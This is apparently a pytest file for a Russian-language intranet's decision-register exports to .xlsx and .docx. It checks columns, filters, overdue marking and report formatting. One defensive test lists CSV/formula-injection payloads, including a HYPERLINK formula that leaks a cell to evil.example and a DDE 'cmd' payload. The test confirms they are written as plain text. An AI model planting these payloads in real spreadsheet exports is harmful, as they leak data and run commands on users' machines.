"""Downloads of the filtered list, read back: .xlsx with openpyxl, .docx with python-docx."""

from __future__ import annotations

import io
import re
from datetime import date, datetime

from docx import Document
from openpyxl import load_workbook

from cluster_intranet.decisions import exports, services
from cluster_intranet.extensions import db
from tests.decisions import support


def make_register(world):
    overdue = support.decision(
        world.meeting,
        world.lead,
        world.co,
        deadline=date(2021, 11, 1),
        status="in_progress",
        text="Разработать экспертный чек-лист.",
    )
    services.move_deadline(overdue, world.secretary, date(2021, 11, 10), "Ждали замечаний работодателей.")
    done = support.done(
        world.meeting,
        world.co,
        deadline=date(2021, 11, 10),
        report="Медиаплан утверждён.",
        on=date(2021, 11, 12),
        report_link="https://cluster.example/media-plan",
        text="Разработать медиаплан.",
    )
    cancelled = support.decision(
        world.meeting, world.co, status="cancelled", cancel_reason="Утратило актуальность.", text="Провести выставку."
    )
    db.session.commit()
    return overdue, done, cancelled


def test_xlsx_of_the_filtered_list(world, secretary):
    overdue, done, cancelled = make_register(world)
    response = secretary.get("/decisions/export.xlsx?status=all&sort=deadline")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header[:8] == [
        "Заседание",
        "№",
        "Решение (поручение)",
        "Ответственные",
        "Срок",
        "Первоначальный срок",
        "Статус",
        "Просрочено, дней",
    ]
    by_text = {row[2]: row for row in rows}
    assert list(by_text) == ["Разработать экспертный чек-лист.", "Разработать медиаплан.", "Провести выставку."]
    first = by_text["Разработать экспертный чек-лист."]
    assert first[3] == "Пояркова О.Н., Кузнецова Н.В."
    assert first[4] == datetime(2021, 11, 10) and first[5] == datetime(2021, 11, 1)  # moved, the original kept
    assert first[6] == "В работе" and first[7] == 10
    assert sheet.cell(2, 7).font.color.rgb.endswith("C00000")  # overdue in red
    second = by_text["Разработать медиаплан."]
    assert second[6:12] == [
        "Исполнено",
        None,
        datetime(2021, 11, 12),
        2,
        "Медиаплан утверждён.",
        "https://cluster.example/media-plan",
    ]
    assert by_text["Провести выставку."][10] == "Утратило актуальность."
    # The filter applies: only the unfinished ones by default.
    only_active = load_workbook(io.BytesIO(secretary.get("/decisions/export.xlsx").data)).active
    assert only_active.max_row == 2


def test_docx_execution_report(world, secretary):
    make_register(world)
    response = secretary.get(
        f"/decisions/export.docx?status=all&council={world.council.id}&from=2021-11-01&to=2021-11-30"
    )
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    document = Document(io.BytesIO(response.data))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "ОТЧЁТ ОБ ИСПОЛНЕНИИ РЕШЕНИЙ" in text and "Координационного совета" in text
    assert "за период с 01.11.2021 по 30.11.2021" in text
    cells = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    body = "\n".join(" | ".join(row) for row in cells)
    assert "Разработать экспертный чек-лист." in body and "Пояркова О.Н., Кузнецова Н.В." in body
    assert "Просрочено" in body and "10.11.2021" in body
    assert "Медиаплан утверждён. (12.11.2021)" in body
    assert "Утратило актуальность." not in body  # undated: outside the deadline range
    assert "Всего решений – 2" in text  # the undated cancelled one is outside the deadline range


def test_too_big_an_export_is_refused(world, secretary, monkeypatch):
    make_register(world)
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 1)
    response = secretary.get("/decisions/export.xlsx?status=all")
    assert response.status_code == 303 and "status=all" in response.location
    page = secretary.get(response.location).get_data(as_text=True)
    assert "больше 1 поручений: уточните фильтр" in page


# Text a spreadsheet would run as a formula (the penetration test's two, and each first character).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&C2,"Отчёт")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def assert_no_formula(book, written: list[str]) -> None:
    """No cell of ``book`` is a formula, and each of ``written`` is there as the text it was."""
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    # Stored as text is not enough: Excel runs «+1+1» once the cell is edited,
                    # unless the quote prefix marks it as typed text.
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                        assert cell.quotePrefix, f"{where} has no quote prefix: {cell.value!r}"
    # Every one of them reached a cell whole (names and titles may add to it: a cell holds it).
    for value in written:
        assert any(value in text for text in texts), value


def test_xlsx_writes_formula_looking_text_as_text(world, secretary):
    world.council.name = FORMULAS[0]
    world.lead.surname = FORMULAS[2]
    support.done(
        world.meeting,
        world.lead,
        deadline=date(2021, 11, 30),
        text=FORMULAS[1],
        report=FORMULAS[3],
        on=date(2021, 11, 12),
        report_link=FORMULAS[4],
    )
    support.decision(world.meeting, world.co, status="cancelled", cancel_reason=FORMULAS[5], text=FORMULAS[6])
    db.session.commit()
    response = secretary.get("/decisions/export.xlsx?status=all")
    assert response.status_code == 200
    assert_no_formula(load_workbook(io.BytesIO(response.data)), FORMULAS[1:])


def test_the_responsible_column_agrees_with_its_rows(world, secretary):
    """«Ответственный» over rows of one person each, «Ответственные» once a row names several:
    the .docx report, the .xlsx and the page say it alike (the report read «Ответственный»
    over «Пояркова О.Н., Кузнецова Н.В.»)."""
    alone = support.decision(world.meeting, world.lead, deadline=date(2021, 11, 10), text="Одобрить чек-лист.")
    db.session.commit()

    def titles():
        sheet = load_workbook(io.BytesIO(secretary.get("/decisions/export.xlsx?status=all").data)).active
        report = Document(io.BytesIO(secretary.get("/decisions/export.docx?status=all").data))
        page = secretary.get("/decisions/?status=all").get_data(as_text=True)
        header = [cell.text for cell in report.tables[0].rows[0].cells]
        return sheet.cell(1, 4).value, header[3], re.findall(r"<th>(Ответственн\w+)</th>", page)

    assert titles() == ("Ответственный", "Ответственный", ["Ответственный"])
    support.decision(world.meeting, world.lead, world.co, deadline=date(2021, 11, 20), text="Подготовить рекомендации.")
    db.session.commit()
    assert titles() == ("Ответственные", "Ответственные", ["Ответственные"])
    # A phone shows each row as a card: its own label, by its own people.
    page = secretary.get("/decisions/?status=all").get_data(as_text=True)
    labels = re.findall(r'id="decision-row-(\d+)".*?data-label="(Ответственн\w+:)"', page, re.S)
    assert dict(labels)[str(alone.id)] == "Ответственный:"
    assert sorted(label for _, label in labels) == ["Ответственные:", "Ответственный:"]


def test_a_standing_decision_keeps_its_term_in_the_xlsx(world, secretary):
    """«Проводить экспертные сессии не реже раза в квартал», срок – «постоянно»: the page and
    the .docx say «постоянно», the .xlsx had an empty «Срок»."""
    support.decision(world.meeting, world.lead, term="постоянно", text="Проводить экспертные сессии.")
    db.session.commit()
    sheet = load_workbook(io.BytesIO(secretary.get("/decisions/export.xlsx?status=all").data)).active
    row = [cell.value for cell in sheet[2]]
    assert row[2] == "Проводить экспертные сессии." and row[4] == "постоянно"
    assert row[5] is None  # no first date to show


def test_the_report_keeps_a_point_with_its_number(world, secretary):
    """«№ 2 от 22.10.2021, п. 1.1» broke as «п.» at a line's end and «1.1» on the next in the
    report's narrow «Заседание (протокол)» column: the spaces there do not break."""
    support.decision(world.meeting, world.lead, deadline=date(2021, 11, 10), text="Одобрить чек-лист.")
    db.session.commit()
    report = Document(io.BytesIO(secretary.get("/decisions/export.docx?status=all").data))
    cell = report.tables[0].rows[1].cells[2].text
    assert cell == f"№\u00a0{world.meeting.number} от 22.10.2021, п.\u00a01"


def test_no_responsible_and_no_term_are_said_not_left_blank(world, secretary):
    """The demo's decision 2 of 22.10.2021 («Применять принцип единообразия…»): nobody named, no
    term. The page says «не назначен» and «без срока»; the report and the .xlsx left the cells
    empty, as if the values were missing from the report."""
    support.decision(world.meeting, text="Применять принцип единообразия.")
    db.session.commit()
    sheet = load_workbook(io.BytesIO(secretary.get("/decisions/export.xlsx?status=all").data)).active
    row = [cell.value for cell in sheet[2]]
    assert row[2] == "Применять принцип единообразия." and row[3:5] == ["не назначен", "без срока"]
    report = Document(io.BytesIO(secretary.get("/decisions/export.docx?status=all").data))
    cells = [cell.text for cell in report.tables[0].rows[1].cells]
    assert cells[1] == "Применять принцип единообразия." and cells[3:5] == ["не назначен", "без срока"]
